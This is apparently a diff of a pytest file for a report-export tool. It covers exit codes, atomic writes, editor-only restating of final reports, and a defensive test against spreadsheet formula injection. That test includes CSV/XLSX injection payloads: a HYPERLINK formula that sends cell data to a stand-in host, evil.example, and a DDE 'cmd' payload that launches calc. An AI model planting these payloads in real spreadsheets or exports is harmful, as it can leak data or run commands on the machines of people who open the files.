@@ -165,7 +165,7 @@ def test_a_month_that_has_not_started_is_refused(in_demo: Path, cli) -> None:
     r = cli("report", "--month", "2026-09", "--format", "csv", "--out", in_demo / "x.csv", "--as-of", AS_OF, "--json")
     assert r.code == 1 and "has not started" in r.json["error"]["message"]
     assert not (in_demo / "x.csv").exists()
-    assert cli("report", "--month", "2026-13", "--format", "csv", "--out", in_demo / "x.csv").code == 1
+    assert cli("report", "--month", "2026-13", "--format", "csv", "--out", in_demo / "x.csv").code == 2  # a malformed month is bad usage (exit 2)
 
 
 def test_a_model_live_from_mid_month(in_demo: Path, cli) -> None:
@@ -253,12 +253,12 @@ def test_writes_are_atomic(in_demo: Path, cli, monkeypatch: pytest.MonkeyPatch) 
     def broken_fsync(fd: int) -> None:
         raise OSError(28, "No space left on device")
 
-    monkeypatch.setattr("valuetrack.reports.export.os.fsync", broken_fsync)
-    with pytest.raises(ReportWriteError, match="No space left"):
-        export_report(open_context(), month=MONTH, fmt="csv", out=target, as_of=dt.date.fromisoformat(AS_OF))
+    with monkeypatch.context() as mp:  # (undoing the fixture's monkeypatch would leave the demo folder)
+        mp.setattr("valuetrack.outputs.os.fsync", broken_fsync)
+        with pytest.raises(ReportWriteError, match="No space left"):
+            export_report(open_context(), month=MONTH, fmt="csv", out=target, as_of=dt.date.fromisoformat(AS_OF))
     assert target.read_bytes() == b"previous report\n"
     assert [p.name for p in in_demo.iterdir() if p.name.startswith(".keep.csv")] == []
-    monkeypatch.undo()
     r = cli("report", "--month", MONTH, "--format", "csv", "--out", in_demo / "missing" / "x.csv", "--json")
     assert r.code == 1 and "does not exist" in r.json["error"]["message"]
 
@@ -293,3 +293,77 @@ def test_snapshot_exports_itself_for_the_app(in_demo: Path) -> None:
     assert xlsx[:2] == b"PK"
     frame = pd.read_csv(io.BytesIO(snap.export("csv")))
     assert set(frame["month"]) == {MONTH}
+
+
+def test_a_viewer_cannot_restate_a_final_report(demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli) -> None:
+    """Under [auth] anyone may export (re-exporting the issued final report), but replacing a FINAL
+    snapshot needs an editor's credential, and the new snapshot records who restated it."""
+    from valuetrack.access import token_sha256
+
+    ws = tmp_path / "team"
+    shutil.copytree(demo, ws, ignore=shutil.ignore_patterns("*.db-wal", "*.db-shm"))
+    monkeypatch.chdir(ws)
+    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
+    monkeypatch.delenv("VALUETRACK_TOKEN", raising=False)
+    final = report(cli, "2026-02", "csv", ws / "feb.csv", "--as-of", AS_OF)  # issued in the open local mode
+    assert final["status"] == "final"
+    (ws / "valuetrack.toml").write_text(
+        '[store]\nurl = "sqlite:///valuetrack.db"\n[connections.demo]\nurl = "duckdb:///sample_data/demo.duckdb"\n'
+        '[auth]\ndefault_role = "viewer"\neditors = ["ed@example.com"]\n'
+        f'[auth.service_accounts."ed@example.com"]\ntoken_sha256 = "{token_sha256("ed-token")}"\n')
+    monkeypatch.setenv("VALUETRACK_USER", "ed@example.com")  # claimed, not authenticated
+    again = report(cli, "2026-02", "csv", ws / "feb2.csv")
+    assert again["snapshot_id"] == final["snapshot_id"] and again["reused"]
+    refused = cli("report", "--month", "2026-02", "--format", "csv", "--out", ws / "feb3.csv", "--restate", "--json")
+    assert refused.code == 1 and refused.json["error"]["code"] == "permission_denied"
+    assert "restate the final report of 2026-02" in refused.json["error"]["message"]
+    assert not (ws / "feb3.csv").exists()
+    monkeypatch.setenv("VALUETRACK_TOKEN", "ed-token")
+    restated = report(cli, "2026-02", "csv", ws / "feb3.csv", "--restate", "--as-of", "2026-06-16")
+    assert not restated["reused"] and restated["supersedes"] == final["snapshot_id"]
+    from valuetrack.context import open_context
+    from valuetrack.reports import SnapshotStore
+
+    assert SnapshotStore(open_context().engine).get(restated["snapshot_id"]).created_by == "ed@example.com"
+
+
+FORMULAS = {"display_name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "owner": "+1+1",
+            "team": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def test_formula_payloads_in_registry_text_stay_text(demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli) -> None:
+    """An attacker who may edit a model's display name, owner or team: the XLSX report opened with
+    openpyxl has no formula anywhere and shows the text as typed; the CSV read back starts those
+    cells with OWASP's apostrophe; numbers stay numbers (negative ones too)."""
+    import openpyxl
+
+    from valuetrack.access import Actor
+    from valuetrack.context import open_context
+
+    ws = tmp_path / "evil"
+    shutil.copytree(demo, ws, ignore=shutil.ignore_patterns("*.db-wal", "*.db-shm"))
+    monkeypatch.chdir(ws)
+    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
+    ctx = open_context()
+    victim = ctx.registry.get("homepage-recs")
+    ctx.registry.update(victim.spec.replace(**FORMULAS), expected_revision=victim.revision, actor=Actor("mallory"))
+    report(cli, MONTH, "xlsx", ws / "r.xlsx", "--as-of", AS_OF)
+    report(cli, MONTH, "csv", ws / "r.csv", "--as-of", AS_OF)
+
+    wb = openpyxl.load_workbook(ws / "r.xlsx")
+    cells = [c for sheet in wb.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert set(FORMULAS.values()) <= texts  # shown exactly as typed, as text
+    numbers = [c.value for c in cells if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
+    assert any(v < 0 for v in numbers)  # negative money is still a number, not text
+
+    frame = pd.read_csv(ws / "r.csv", dtype=str, keep_default_na=False)
+    mine = frame[frame["model"] == "homepage-recs"]
+    assert set(mine["display_name"]) == {"'" + FORMULAS["display_name"]}
+    assert set(mine["team"]) == {"'" + FORMULAS["team"]}
+    raw = (ws / "r.csv").read_text()
+    assert not any(line.split(",")[-1].startswith(("=", "+", "@")) for line in raw.splitlines())
+    values = pd.to_numeric(frame["value"].replace("", None), errors="coerce")
+    assert values.notna().sum() == (frame["value"] != "").sum()  # every value cell still parses as a number
+    assert (values < 0).any()
